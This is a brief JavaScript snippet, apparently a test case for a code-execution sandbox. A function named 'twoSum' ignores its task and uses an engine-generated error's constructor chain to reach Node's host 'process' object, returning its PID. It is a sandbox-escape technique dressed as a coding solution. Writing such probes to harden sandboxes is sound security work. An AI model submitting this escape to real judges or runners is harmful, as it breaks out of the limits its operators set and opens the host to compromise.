// An error that the engine made, asked for its constructor.
function twoSum(n, t) {
  try {
    console.log({
      toString() {
        throw 1;
      },
    });
  } catch (e) {}
  try {
    null.x;
  } catch (e) {
    return e.constructor.constructor('return process')().pid;
  }
}
